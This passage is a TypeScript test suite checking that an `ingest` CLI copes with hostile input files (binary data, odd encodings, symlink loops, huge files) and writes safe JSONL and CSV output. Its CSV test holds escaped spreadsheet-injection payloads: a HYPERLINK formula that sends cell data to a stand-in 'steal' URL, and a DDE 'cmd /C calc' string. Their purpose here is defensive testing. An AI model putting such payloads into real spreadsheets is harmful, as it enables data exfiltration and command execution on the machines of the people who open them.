/**
 * Hostile input, end to end: whatever is in the folder, `ingest` finishes, says on standard
 * error what it could not read and why, writes every record it could, exits with the code
 * the README promises, and never writes anything that harms whoever opens the output.
 *
 * Small text cases live in fixtures/hostile/; binary, large, unreadable, symbolic-link and
 * duplicate cases are generated here. Runs go through `runCli` in-process, except where a
 * separate process is the point (memory, time zone and locale, interrupted writes, dropped
 * privileges, a possible hang): those run the built CLI, `node bin/ingest.js`.
 */
import { spawn, spawnSync, type SpawnSyncReturns } from 'node:child_process'
import {
  accessSync,
  chmodSync,
  constants,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { runCli, root, type CliResult } from './support/run-cli.js'
import type { ProjectRecord } from '../src/schema/record.js'
import { seededBytes } from './support/seeded-bytes.js'

const bin = path.join(root, 'bin/ingest.js')
const hostileDir = path.join(root, 'fixtures/hostile')
const seedsDir = path.join(root, 'seeds')
const temp = (): string => mkdtempSync(path.join(tmpdir(), 'ingest-hostile-'))
const names = (dir: string): string[] => readdirSync(dir).sort()

// ---------------------------------------------------------------------------------------
// Generated inputs

function noise(length: number, seed: number, avoidNul = false): Buffer {
  return seededBytes(length, seed, avoidNul ? 0x41 : undefined)
}

const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), Buffer.from('IHDR'), noise(600, 1)])
const binaries: ReadonlyArray<{ name: string; bytes: Buffer; reason: RegExp }> = [
  { name: 'logo-png.txt', bytes: png, reason: /^not a text file: it starts like a PNG image$/ },
  {
    name: 'scan-jpeg.txt',
    bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from('JFIF'), noise(500, 2)]),
    reason: /^not a text file: it starts like a JPEG image$/,
  },
  {
    name: 'report-pdf.txt',
    bytes: Buffer.concat([Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n', 'latin1'), noise(800, 3)]),
    reason: /^not a text file: it starts like a PDF document$/,
  },
  {
    name: 'minutes-docx.txt',
    bytes: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0x06, 0]), Buffer.from('[Content_Types].xml'), noise(700, 4)]),
    reason: /^not a text file: it starts like a ZIP archive \(or DOCX\/XLSX\/ODT document\)$/,
  },
  {
    name: 'budget-xls.txt',
    bytes: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), noise(700, 5)]),
    reason: /^not a text file: it starts like an OLE2 document \(legacy DOC\/XLS\/PPT\)$/,
  },
  { name: 'backup-gz.txt', bytes: Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0]), noise(400, 6)]), reason: /^not a text file: it starts like a GZIP archive$/ },
  // Extension-less files are read from folders too.
  { name: 'program', bytes: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), noise(400, 7)]), reason: /^not a text file: it starts like an ELF executable$/ },
  { name: 'random-bytes.txt', bytes: noise(4096, 8), reason: /^not a text file: it has a NUL byte at byte \d+ \(for UTF-16 text without a byte-order mark, pass --encoding utf-16le or utf-16be\)$/ },
  {
    name: 'control-characters.txt',
    bytes: Buffer.from('Project title\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\n'.repeat(20), 'latin1'),
    reason: /^not a text file: \d+% of its characters are control characters$/,
  },
  { name: 'noise-without-nul.txt', bytes: noise(4096, 9, true), reason: /^not a text file: \d+% of its characters are control characters$/ },
]

/**
 * Real text, `bytes` long: the real documents of fixtures/, over and over. (Not the seeds:
 * their project numbers would clash with the seed copies in the mixed folder.)
 */
function realText(bytes: number): Buffer {
  const layouts = ['eea-project-facts', 'unodc-baltic-grant', 'lv-norwaygrants-page', 'lv-project-table', 'generic']
  const documents = layouts
    .flatMap((layout) => names(path.join(root, 'fixtures', layout)).filter((name) => name.startsWith('dev-') && name.endsWith('.txt')).map((name) => path.join(root, 'fixtures', layout, name)))
    .map((file) => readFileSync(file, 'utf8'))
  const parts: Buffer[] = []
  let total = 0
  for (let i = 0; ; i++) {
    const part = Buffer.from(`${documents[i % documents.length]!}\n\n`, 'utf8')
    if (total + part.length > bytes) break
    parts.push(part)
    total += part.length
  }
  // Whole documents, then line breaks up to the size: never half a UTF-8 sequence at the end.
  return Buffer.concat([...parts, Buffer.alloc(bytes - total, '\n')])
}

/** Half a megabyte and more of label lines, values, digits, quotes and bullets, over and over. */
function repeatedLabels(bytes: number): Buffer {
  const unit = 'Project promoter:\nProjekta pieteicējs\tRīgas dome\nFinansējums: 1 000 000,00 EUR\n• „Drošs ceļš“ – 12 %\n\n'
  return Buffer.from(`Hostile page of repeated labels\n\n${unit.repeat(Math.ceil(bytes / Buffer.byteLength(unit)))}`, 'utf8')
}

/** True when file permissions do not stop this process (root): `chmod 000` cannot make a file unreadable. */
function permissionsIgnored(dir: string): boolean {
  const probe = path.join(dir, '.probe')
  writeFileSync(probe, 'x')
  chmodSync(probe, 0)
  try {
    accessSync(probe, constants.R_OK)
    return true
  } catch {
    return false
  }
}

// ---------------------------------------------------------------------------------------
// Reading what the CLI printed

interface Printed {
  path: string
  level: 'error' | 'warning' | 'info'
  message: string
  code: string
}

/** `path[:line:column]  level  message  code` lines; the summary lines are left out. */
function parseMessages(stderr: string): Printed[] {
  const lines = stderr.split('\n').filter((line) => line && !line.startsWith('ingest:') && !line.startsWith('  '))
  return lines.map((line) => {
    const match = /^(.+?)(?::\d+:\d+)?  (error|warning|info)  (.*)  ([a-z0-9-]+)$/.exec(line)
    if (!match) throw new Error(`not a message line: ${JSON.stringify(line)}`)
    return { path: match[1]!, level: match[2] as Printed['level'], message: match[3]!, code: match[4]! }
  })
}

/** `level code` per path, sorted, for exact comparison. */
function codesByPath(messages: readonly Printed[]): Record<string, string[]> {
  const out: Record<string, string[]> = {}
  for (const message of messages) (out[message.path] ??= []).push(`${message.level} ${message.code}`)
  for (const list of Object.values(out)) list.sort()
  return out
}

function summary(stderr: string): { files: number; records: number; failed: number } {
  const match = /^ingest: (\d+) files? read, (\d+) records? written, \d+ warnings?, (\d+) failed$/m.exec(stderr)
  if (!match) throw new Error(`no summary in ${stderr}`)
  return { files: Number(match[1]), records: Number(match[2]), failed: Number(match[3]) }
}

const jsonl = (stdout: string): ProjectRecord[] => stdout.split('\n').filter(Boolean).map((line) => JSON.parse(line) as ProjectRecord)

/** RFC 4180 rows (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const char = text[i]!
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',') row.push(cell), (cell = '')
    else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++
    } else cell += char
  }
  if (cell || row.length) row.push(cell), rows.push(row)
  return rows
}

/** Run the built CLI in a child process. */
function runBuilt(args: string[], options: { cwd: string; env?: NodeJS.ProcessEnv; timeout?: number; uid?: number; gid?: number }): SpawnSyncReturns<Buffer> {
  return spawnSync(process.execPath, [bin, ...args], {
    cwd: options.cwd,
    env: { PATH: process.env.PATH, ...options.env },
    timeout: options.timeout ?? 60_000,
    maxBuffer: 256 * 1024 * 1024,
    ...(options.uid === undefined ? {} : { uid: options.uid, gid: options.gid }),
  })
}

// ---------------------------------------------------------------------------------------
// The mixed folder: copies of the seeds next to every hostile case

interface Expected {
  /** `level code` of every message about the path, sorted. */
  codes: string[]
  /** A record is written for it. */
  record: boolean
  /** `source.encoding` of that record. */
  encoding?: string
  /** The reason printed for an error, when it matters which. */
  reason?: RegExp
}

const LIMIT = 1_000_000
const NOBODY = 65534

interface Mixed {
  dir: string
  expected: Map<string, Expected>
}

function buildMixedFolder(options: { unreadable: boolean }): Mixed {
  const dir = temp()
  const expected = new Map<string, Expected>()
  const expect_ = (display: string, value: Expected): void => void expected.set(display, { ...value, codes: [...value.codes].sort() })

  mkdirSync(path.join(dir, 'seeds'))
  for (const name of names(seedsDir)) {
    copyFileSync(path.join(seedsDir, name), path.join(dir, 'seeds', name))
    expect_(`seeds/${name}`, { codes: [], record: true, encoding: 'utf-8' })
  }
  // The same document saved twice under two names: one record, for the first by path.
  copyFileSync(path.join(seedsDir, '000_089680543fc1a5e0.txt'), path.join(dir, 'seeds', 'copy-of-000.txt'))
  expect_('seeds/copy-of-000.txt', { codes: ['info duplicate-document'], record: false })

  mkdirSync(path.join(dir, 'hostile'))
  for (const name of names(hostileDir)) copyFileSync(path.join(hostileDir, name), path.join(dir, 'hostile', name))
  const hostile: Record<string, Expected> = {
    'cr.txt': { codes: ['warning no-project-facts'], record: true, encoding: 'utf-8' },
    'crlf.txt': { codes: ['warning no-project-facts'], record: true, encoding: 'utf-8' },
    'empty.txt': { codes: ['error empty-file'], record: false, reason: /^the file is empty \(0 bytes\)$/ },
    'formula.txt': { codes: [], record: true, encoding: 'utf-8' },
    // It opens with a labelled fact ("Total cost: 48 500 EUR"), which is read as one: no heading, so no title.
    'invisible.txt': { codes: ['warning missing-title'], record: true, encoding: 'utf-8' },
    'latvian.iso-8859-13.txt': { codes: ['info legacy-encoding'], record: true, encoding: 'iso-8859-13' },
    'latvian.iso-8859-4.txt': { codes: ['info legacy-encoding'], record: true, encoding: 'iso-8859-4' },
    'latvian.utf-16be-bom.txt': { codes: ['info non-utf8-encoding'], record: true, encoding: 'utf-16be' },
    'latvian.utf-16le-bom.txt': { codes: ['info non-utf8-encoding'], record: true, encoding: 'utf-16le' },
    'latvian.utf-8-bom.txt': { codes: [], record: true, encoding: 'utf-8' },
    'latvian.utf-8.txt': { codes: [], record: true, encoding: 'utf-8' },
    'latvian.windows-1257.txt': { codes: ['info legacy-encoding'], record: true, encoding: 'windows-1257' },
    'lithuanian.iso-8859-13.txt': { codes: ['info legacy-encoding'], record: true, encoding: 'iso-8859-13' },
    'lithuanian.iso-8859-4.txt': { codes: ['info legacy-encoding'], record: true, encoding: 'iso-8859-4' },
    'lithuanian.windows-1257.txt': { codes: ['info legacy-encoding'], record: true, encoding: 'windows-1257' },
    'no-facts.txt': { codes: ['warning no-project-facts'], record: true, encoding: 'utf-8' },
    'same-document-1.txt': { codes: [], record: true, encoding: 'utf-8' },
    'same-document-2.txt': { codes: ['info duplicate-document'], record: false },
    'same-number-a.txt': { codes: [], record: true, encoding: 'utf-8' },
    'same-number-b.txt': { codes: ['warning duplicate-id'], record: true, encoding: 'utf-8' },
    'tabs.txt': { codes: [], record: true, encoding: 'utf-8' },
    'whitespace-only.txt': { codes: ['error empty-file'], record: false, reason: /^the file holds only whitespace$/ },
  }
  for (const name of names(hostileDir)) {
    const value = hostile[name]
    if (!value) throw new Error(`fixtures/hostile/${name} has no expectation in test/hostile.test.ts`)
    expect_(`hostile/${name}`, value)
  }

  mkdirSync(path.join(dir, 'generated'))
  const generated = (name: string, bytes: Buffer | string, value: Expected): void => {
    writeFileSync(path.join(dir, 'generated', name), bytes)
    expect_(`generated/${name}`, value)
  }
  for (const { name, bytes, reason } of binaries) generated(name, bytes, { codes: ['error binary-file'], record: false, reason })
  // Folders are read for text files only: a real image is passed over with a note.
  generated('photo.png', png, { codes: ['info not-a-text-file'], record: false })
  generated('too-large.txt', realText(LIMIT + 1), {
    codes: ['error too-large'],
    record: false,
    reason: new RegExp(`^the file is ${LIMIT + 1} bytes; the limit is ${LIMIT} bytes$`),
  })
  // Windows "Unicode" text saved without a byte-order mark: told from binary by where its NULs fall.
  generated('utf-16le-without-bom.txt', readFileSync(path.join(hostileDir, 'latvian.utf-16le-bom.txt')).subarray(2), {
    codes: ['info non-utf8-encoding'],
    record: true,
    encoding: 'utf-16le',
  })
  generated('at-the-limit.txt', realText(LIMIT), { codes: [], record: true, encoding: 'utf-8' })
  generated('repeated-labels.txt', repeatedLabels(LIMIT - 100_000), { codes: ['warning missing-title'], record: true, encoding: 'utf-8' })
  if (options.unreadable) {
    generated('locked.txt', 'Project title: locked\n', { codes: ['error unreadable'], record: false, reason: /^cannot read the file: EACCES: permission denied$/ })
    chmodSync(path.join(dir, 'generated', 'locked.txt'), 0)
  }
  const fifo = spawnSync('mkfifo', [path.join(dir, 'generated', 'pipe.txt')])
  if (fifo.status === 0) expect_('generated/pipe.txt', { codes: ['warning not-a-file'], record: false, reason: /^skipped: a named pipe, not a regular file$/ })

  // `z-links` sorts after `seeds`, so the link to it leads to a folder already walked.
  mkdirSync(path.join(dir, 'z-links'))
  symlinkSync('..', path.join(dir, 'z-links', 'loop'))
  expect_('z-links/loop', { codes: ['warning symlink-loop'], record: false })
  symlinkSync('self.txt', path.join(dir, 'z-links', 'self.txt'))
  expect_('z-links/self.txt', { codes: ['warning symlink-loop'], record: false })
  symlinkSync('nothing-here.txt', path.join(dir, 'z-links', 'dangling.txt'))
  expect_('z-links/dangling.txt', { codes: ['warning broken-symlink'], record: false })
  symlinkSync('../seeds', path.join(dir, 'z-links', 'seeds-again'))
  expect_('z-links/seeds-again', { codes: ['info symlink-duplicate'], record: false })
  return { dir, expected }
}

/** How many inputs the run counts as files: everything but links, pipes and non-text names it passed over. */
function countFiles(expected: Map<string, Expected>): number {
  const skippedByWalk = new Set(['info not-a-text-file', 'warning symlink-loop', 'warning broken-symlink', 'info symlink-duplicate', 'warning not-a-file'])
  return [...expected.values()].filter((value) => !value.codes.some((code) => skippedByWalk.has(code))).length
}

describe('a folder mixing the seeds with every hostile case', () => {
  let mixed: Mixed
  let verbose: CliResult
  let verboseMs: number
  let seedsAlone: ProjectRecord[]

  beforeAll(async () => {
    const probe = temp()
    mixed = buildMixedFolder({ unreadable: !permissionsIgnored(probe) })
    const start = performance.now()
    verbose = await runCli(['.', '-v', '--no-color', '--max-bytes', String(LIMIT), '-f', 'jsonl'], { cwd: mixed.dir })
    verboseMs = performance.now() - start
    seedsAlone = jsonl((await runCli(['seeds', '-f', 'jsonl'], { cwd: mixed.dir })).stdout)
  }, 120_000)

  it('finishes in seconds and exits 1', () => {
    expect(verbose.code).toBe(1)
    expect(verboseMs).toBeLessThan(20_000)
  })

  it('prints exactly the expected messages for every input, and none for any other', () => {
    const printed = codesByPath(parseMessages(verbose.stderr))
    const wanted = Object.fromEntries([...mixed.expected].filter(([, value]) => value.codes.length).map(([display, value]) => [display, value.codes]))
    expect(printed).toEqual(wanted)
  })

  it('names every skipped input on stderr with its reason', () => {
    const messages = parseMessages(verbose.stderr)
    for (const [display, value] of mixed.expected) {
      if (value.record) continue
      const about = messages.filter((message) => message.path === display)
      expect(about.length, display).toBeGreaterThan(0)
      for (const message of about) expect(message.message, display).not.toBe('')
      if (value.reason) expect(about.map((message) => message.message)).toContainEqual(expect.stringMatching(value.reason))
    }
  })

  it('writes a record for every input that could be read, and only for those, in path order', () => {
    const records = jsonl(verbose.stdout)
    const wanted = [...mixed.expected].filter(([, value]) => value.record).map(([display]) => display)
    expect(records.map((record) => record.source.path)).toEqual([...wanted].sort())
    for (const record of records) expect(record.source.encoding, record.source.path).toBe(mixed.expected.get(record.source.path)!.encoding)
  })

  it('leaves the seed records exactly as a run over the seeds alone gives them', () => {
    const records = jsonl(verbose.stdout).filter((record) => record.source.path.startsWith('seeds/'))
    expect(records).toEqual(seedsAlone)
  })

  it('counts files, records and failures in the summary', () => {
    const files = countFiles(mixed.expected)
    const records = [...mixed.expected.values()].filter((value) => value.record).length
    const failed = [...mixed.expected.values()].filter((value) => value.codes.some((code) => code.startsWith('error '))).length
    expect(summary(verbose.stderr)).toEqual({ files, records, failed })
  })

  it('without -v still names every input that failed, and hides the info messages', async () => {
    const quiet = await runCli(['.', '--no-color', '--max-bytes', String(LIMIT), '-f', 'jsonl'], { cwd: mixed.dir })
    expect(quiet.code).toBe(1)
    expect(quiet.stdout).toBe(verbose.stdout)
    const printed = codesByPath(parseMessages(quiet.stderr))
    const wanted = Object.fromEntries(
      [...mixed.expected]
        .map(([display, value]) => [display, value.codes.filter((code) => !code.startsWith('info '))] as const)
        .filter(([, codes]) => codes.length),
    )
    expect(printed).toEqual(wanted)
  })

  it('reads the same Latvian text alike from every encoding, line ending and byte-order mark', () => {
    const records = jsonl(verbose.stdout).filter((record) => record.source.path.startsWith('hostile/latvian.'))
    expect(records).toHaveLength(7)
    const facts = (record: ProjectRecord): unknown => ({ title: record.title, promoter: record.promoter, language: record.language, amounts: record.amounts, country: record.country })
    for (const record of records) expect(facts(record), record.source.path).toEqual(facts(records.find((r) => r.source.path === 'hostile/latvian.utf-8.txt')!))
    expect(records[0]!.title).toBe('Droša vide jauniešiem')
  })

  it('keeps no invisible characters, carriage returns or byte-order marks in any record', () => {
    for (const record of jsonl(verbose.stdout)) {
      const { source: _source, diagnostics: _diagnostics, ...fields } = record
      expect(JSON.stringify(fields), record.source.path).not.toMatch(/[\u00A0\u00AD\u200B-\u200F\u2028\u2029\u202A-\u202E\u2060\uFEFF\r]/u)
    }
    const cr = jsonl(verbose.stdout).find((record) => record.source.path === 'hostile/crlf.txt')!
    // "Project title" alone on the first line is a label: the title is the line under it, without its CR.
    expect(cr.title).toBe('Harm reduction in Kėdainiai')
  })

  it('gives real text with no project facts a record of what could be read, with a warning', () => {
    const record = jsonl(verbose.stdout).find((r) => r.source.path === 'hostile/no-facts.txt')!
    expect(record.title).toBe('Spring weather in the Baltic region')
    expect(record.language).toBe('en')
    expect(record.diagnostics.map((d) => `${d.level} ${d.code}`)).toEqual(['warning no-project-facts'])
  })

  it('keeps ids unique: two documents with one project number get x and x-2, and the second says why', () => {
    const records = jsonl(verbose.stdout)
    const ids = records.map((record) => record.id)
    expect(new Set(ids).size).toBe(ids.length)
    const a = records.find((record) => record.source.path === 'hostile/same-number-a.txt')!
    const b = records.find((record) => record.source.path === 'hostile/same-number-b.txt')!
    expect([a.id, b.id]).toEqual(['lt11-0007', 'lt11-0007-2'])
    expect(a.diagnostics).toEqual([])
    expect(b.diagnostics).toEqual([
      {
        level: 'warning',
        code: 'duplicate-id',
        message: 'another document has the same project number LT11-0007: id lt11-0007 is taken, this record is lt11-0007-2',
        line: null,
        column: null,
      },
    ])
  })

  it('writes one record for the same document saved twice, and says which one it kept', () => {
    const messages = parseMessages(verbose.stderr)
    expect(messages.filter((message) => message.code === 'duplicate-document')).toEqual([
      { path: 'hostile/same-document-2.txt', level: 'info', code: 'duplicate-document', message: 'same content as hostile/same-document-1.txt: one record is kept' },
      { path: 'seeds/copy-of-000.txt', level: 'info', code: 'duplicate-document', message: 'same content as seeds/000_089680543fc1a5e0.txt: one record is kept' },
    ])
  })

  it('writes a CSV in which no text cell can run as a formula and numbers stay numbers', async () => {
    const { code, stdout } = await runCli(['.', '--max-bytes', String(LIMIT), '-f', 'csv', '-q'], { cwd: mixed.dir })
    expect(code).toBe(1)
    const [header, ...rows] = parseCsv(stdout)
    expect(rows).toHaveLength(jsonl(verbose.stdout).length)
    for (const row of rows) {
      expect(row).toHaveLength(header!.length)
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u)
    }
    const column = (name: string): number => header!.indexOf(name)
    const formula = rows.find((row) => row[column('sourcePath')] === 'hostile/formula.txt')!
    expect(formula[column('title')]).toBe(`'=HYPERLINK("http://example.invalid/steal?d="&A1,"Open the project page")`)
    expect(formula[column('promoter')]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`)
    expect(formula[column('targetGroups')]).toBe(`'+Parents of pupils; teachers`)
    expect(formula[column('objectives')]).toBe(`'=1+1 safer streets`)
    expect(formula[column('totalEur')]).toBe('12500')
    expect(formula[column('grantEur')]).toBe('10000')
  })
})

// ---------------------------------------------------------------------------------------

describe('encodings', () => {
  it('--encoding decodes with the label given, without guessing', async () => {
    const { code, stdout, stderr } = await runCli(['fixtures/hostile/latvian.iso-8859-4.txt', '--encoding', 'iso-8859-4', '-v', '-f', 'jsonl'])
    expect(code).toBe(0)
    expect(codesByPath(parseMessages(stderr))).toEqual({ 'fixtures/hostile/latvian.iso-8859-4.txt': ['info non-utf8-encoding'] })
    const [record] = jsonl(stdout)
    expect(record!.source.encoding).toBe('iso-8859-4')
    expect(record!.title).toBe('Droša vide jauniešiem')
  })

  it('reads UTF-16 text that has no byte-order mark, by itself or as --encoding says', async () => {
    const dir = temp()
    writeFileSync(path.join(dir, 'no-bom.txt'), readFileSync(path.join(hostileDir, 'latvian.utf-16le-bom.txt')).subarray(2))
    for (const options of [[], ['--encoding', 'utf-16le']]) {
      const { code, stdout, stderr } = await runCli(['no-bom.txt', ...options, '-v', '-f', 'jsonl'], { cwd: dir })
      expect(code).toBe(0)
      expect(codesByPath(parseMessages(stderr))).toEqual({ 'no-bom.txt': ['info non-utf8-encoding'] })
      const [record] = jsonl(stdout)
      expect(record!.source.encoding).toBe('utf-16le')
      expect(record!.title).toBe('Droša vide jauniešiem')
    }
  })

  it('an unknown --encoding is a usage error: exit 2 before any work', async () => {
    const dir = temp()
    const out = path.join(dir, 'out.json')
    const { code, stdout, stderr } = await runCli(['seeds/', '--encoding', 'no-such-encoding', '-o', out])
    expect({ code, stdout, stderr }).toEqual({ code: 2, stdout: '', stderr: expect.stringMatching(/^ingest: .*no-such-encoding/) })
    expect(existsSync(out)).toBe(false)
  })
})

describe('junk on standard input', () => {
  it.each([
    ['an image', png, 'binary-file'],
    ['nothing', Buffer.alloc(0), 'empty-file'],
    ['only spaces and line breaks', Buffer.from(' \r\n\t\u00A0\n'), 'empty-file'],
  ])('%s on - is reported, gives no record and exits 1', async (_what, bytes, code) => {
    const result = await runCli(['-', '-f', 'jsonl'], { stdin: bytes })
    expect(result.code).toBe(1)
    expect(result.stdout).toBe('')
    expect(codesByPath(parseMessages(result.stderr))).toEqual({ '-': [`error ${code}`] })
  })

  it('standard input over --max-bytes is cut off and reported; with nothing read the exit code is 2', async () => {
    const result = await runCli(['-', '--max-bytes', '1000', '-f', 'jsonl'], { stdin: realText(5000) })
    expect(result.code).toBe(2)
    expect(parseMessages(result.stderr)).toEqual([{ path: '-', level: 'error', code: 'too-large', message: 'standard input is more than 1000 bytes; the limit is 1000 bytes' }])
  })
})

describe('size', () => {
  it('processes a 6 MB real-text file under the limit with bounded memory', () => {
    const dir = temp()
    const size = 6_000_000
    writeFileSync(path.join(dir, 'big.txt'), realText(size))
    copyFileSync(path.join(seedsDir, '000_089680543fc1a5e0.txt'), path.join(dir, 'small.txt'))
    // Peak resident memory of a whole CLI run, reported by the child itself when it exits.
    const peak = (file: string): { kib: number; status: number | null; stdout: string; ms: number } => {
      const probe = [
        `process.on('exit', () => require('node:fs').writeSync(2, '\\nmaxrss ' + process.resourceUsage().maxRSS + '\\n'))`,
        `process.argv = [process.argv[0], ${JSON.stringify(bin)}, ${JSON.stringify(file)}, '-f', 'jsonl', '-q']`,
        `import(require('node:url').pathToFileURL(${JSON.stringify(bin)}).href)`,
      ].join(';')
      const start = performance.now()
      const result = spawnSync(process.execPath, ['-e', probe], { cwd: dir, env: { PATH: process.env.PATH }, timeout: 120_000, maxBuffer: 64 * 1024 * 1024 })
      const kib = Number(/maxrss (\d+)/.exec(result.stderr.toString())?.[1])
      return { kib, status: result.status, stdout: result.stdout.toString(), ms: performance.now() - start }
    }
    const baseline = peak('small.txt')
    const big = peak('big.txt')
    expect(baseline.status).toBe(0)
    expect(big.status).toBe(0)
    const [record] = jsonl(big.stdout)
    expect(record!.source.bytes).toBe(size)
    expect(big.ms).toBeLessThan(60_000)
    // The text is held a few times over (bytes, UTF-16 string, lines); a blow-up is hundreds of MB more.
    expect((big.kib - baseline.kib) * 1024).toBeLessThan(50 * size)
  }, 150_000)
})

describe('paths', () => {
  it('a missing path exits 2 before any work: nothing on stdout, no output file', async () => {
    const dir = temp()
    const out = path.join(dir, 'out.json')
    const { code, stdout, stderr } = await runCli(['seeds/', 'no-such-folder', '-o', out])
    expect(code).toBe(2)
    expect(stdout).toBe('')
    expect(stderr).toBe('ingest: no such file or folder: no-such-folder\n')
    expect(names(dir)).toEqual([])
  })

  it('an unreadable file is reported with the reason, and the others are still written', () => {
    const dir = temp()
    chmodSync(dir, 0o755)
    copyFileSync(path.join(seedsDir, '000_089680543fc1a5e0.txt'), path.join(dir, 'readable.txt'))
    writeFileSync(path.join(dir, 'locked.txt'), 'Project title: locked\n')
    chmodSync(path.join(dir, 'locked.txt'), 0)
    // As root permissions do not apply: run as nobody to see what a CI user would.
    const asNobody = permissionsIgnored(temp()) ? { uid: NOBODY, gid: NOBODY } : {}
    const result = runBuilt(['.', '-f', 'jsonl', '--no-color'], { cwd: dir, ...asNobody })
    expect(result.status).toBe(1)
    expect(parseMessages(result.stderr.toString())).toEqual([
      { path: 'locked.txt', level: 'error', code: 'unreadable', message: 'cannot read the file: EACCES: permission denied' },
    ])
    expect(jsonl(result.stdout.toString()).map((record) => record.source.path)).toEqual(['readable.txt'])
  })

  it('a symbolic link loop named on the command line is reported and the run goes on', async () => {
    const dir = temp()
    symlinkSync('loop.txt', path.join(dir, 'loop.txt'))
    copyFileSync(path.join(seedsDir, '001_304391f3a1a70092.txt'), path.join(dir, 'page.txt'))
    const { code, stdout, stderr } = await runCli(['loop.txt', 'page.txt', '-f', 'jsonl'], { cwd: dir })
    expect(code).toBe(0)
    expect(codesByPath(parseMessages(stderr))).toEqual({ 'loop.txt': ['warning symlink-loop'] })
    expect(jsonl(stdout).map((record) => record.source.path)).toEqual(['page.txt'])
  })
})

describe('pathological text, end to end', () => {
  // A page saved with its title line padded by a megabyte of spaces. Runs in a child process
  // so that a hang is cut off after 20 s instead of blocking the suite.
  it('a megabyte of spaces inside one line is read in seconds', () => {
    const dir = temp()
    writeFileSync(path.join(dir, 'padded.txt'), `Project title${' '.repeat(1_000_000)}x\nProject promoter: Riga City Council\n`)
    const start = performance.now()
    const result = runBuilt(['padded.txt', '-f', 'jsonl', '--no-color'], { cwd: dir, timeout: 20_000 })
    const seconds = (performance.now() - start) / 1000
    expect(result.signal, `killed after ${seconds.toFixed(1)} s`).toBeNull()
    expect(result.status).toBe(0)
    expect(jsonl(result.stdout.toString()).map((record) => record.promoter)).toEqual(['Riga City Council'])
  }, 30_000)
})

describe('-o writes atomically', () => {
  const previous = '["the previous dataset"]\n'

  it('replaces the previous file only when the run succeeds, leaving no temporary file', async () => {
    const dir = temp()
    const out = path.join(dir, 'out.json')
    writeFileSync(out, previous)
    const { code } = await runCli(['seeds/', '-o', out])
    expect(code).toBe(0)
    expect(names(dir)).toEqual(['out.json'])
    expect(readFileSync(out, 'utf8')).toBe((await runCli(['seeds/'])).stdout)
  })

  it.skipIf(process.platform === 'win32')('keeps the previous file when writing fails (file size limit), and exits 2', () => {
    const dir = temp()
    const out = path.join(dir, 'out.json')
    writeFileSync(out, previous)
    // `ulimit -f 1` makes every write past 512 bytes fail with EFBIG (Node ignores SIGXFSZ).
    const result = spawnSync('sh', ['-c', 'ulimit -f 1 && exec "$0" "$@"', process.execPath, bin, path.join(root, 'seeds'), '-o', out], {
      cwd: dir,
      env: { PATH: process.env.PATH },
      timeout: 60_000,
    })
    expect(result.status).toBe(2)
    expect(result.stderr.toString()).toMatch(/^ingest: could not write the dataset: .*EFBIG/m)
    expect(readFileSync(out, 'utf8')).toBe(previous)
    expect(names(dir)).toEqual(['out.json'])
  })

  it.skipIf(process.platform === 'win32')('keeps the previous file when the run is killed half-way', async () => {
    const dir = temp()
    const out = path.join(dir, 'out.json')
    writeFileSync(out, previous)
    mkdirSync(path.join(dir, 'in'))
    copyFileSync(path.join(seedsDir, '000_089680543fc1a5e0.txt'), path.join(dir, 'in', 'a.txt'))
    // Several large files after it keep the run busy for seconds, even on a loaded machine
    // where this test polls late.
    const large = realText(8_000_000)
    for (const name of ['b.txt', 'c.txt', 'd.txt', 'e.txt']) writeFileSync(path.join(dir, 'in', name), large)
    const child = spawn(process.execPath, [bin, 'in', '-o', out, '-q'], { cwd: dir, env: { PATH: process.env.PATH }, stdio: 'ignore' })
    const exited = new Promise<NodeJS.Signals | null>((resolve) => child.on('exit', (_code, signal) => resolve(signal)))
    // Wait until the first record has gone to the temporary file, then pull the plug.
    const deadline = Date.now() + 30_000
    while (!names(dir).some((name) => name.endsWith('.tmp')) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 10))
    expect(names(dir).some((name) => name.endsWith('.tmp'))).toBe(true)
    child.kill('SIGKILL')
    expect(await exited).toBe('SIGKILL')
    expect(readFileSync(out, 'utf8')).toBe(previous)
    // Only the hidden temporary file may be left behind; it is never mistaken for the dataset.
    expect(names(dir).filter((name) => !name.startsWith('.'))).toEqual(['in', 'out.json'])
  }, 60_000)
})

describe('determinism', () => {
  /** The same inputs written into `dir/inputs` in the given order, with the given modification time. */
  function tree(order: 'sorted' | 'reversed', mtime: Date): string {
    const dir = temp()
    const files: Array<[string, Buffer]> = [
      ...names(seedsDir).map((name): [string, Buffer] => [`seeds/${name}`, readFileSync(path.join(seedsDir, name))]),
      ...names(hostileDir).map((name): [string, Buffer] => [`hostile/${name}`, readFileSync(path.join(hostileDir, name))]),
      ...binaries.slice(0, 3).map(({ name, bytes }): [string, Buffer] => [`binary/${name}`, bytes]),
    ]
    if (order === 'reversed') files.reverse()
